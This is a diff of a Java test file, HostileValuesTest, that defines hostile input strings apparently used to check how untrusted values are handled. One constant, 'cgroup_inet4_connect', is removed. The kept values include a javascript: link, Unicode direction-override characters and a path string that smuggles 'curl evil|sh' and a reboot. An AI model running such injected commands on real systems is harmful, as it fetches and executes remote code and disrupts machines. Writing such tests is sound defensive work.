@@ -33,7 +33,6 @@ final class HostileValuesTest {
     private static final String MARKDOWN = "`|@everyone #1 [x](javascript:alert(1)) <b>";
     private static final String DIRECTION = "\u202e4.3.2.1\u200f";
     private static final String SHELL = "/sys/fs/cgroup/x;curl${IFS}evil|sh;$(reboot)";
-    private static final String CONNECT = "cgroup_inet4_connect";
 
     private static final List<String> ATTACKS = List.of(
             HTML,
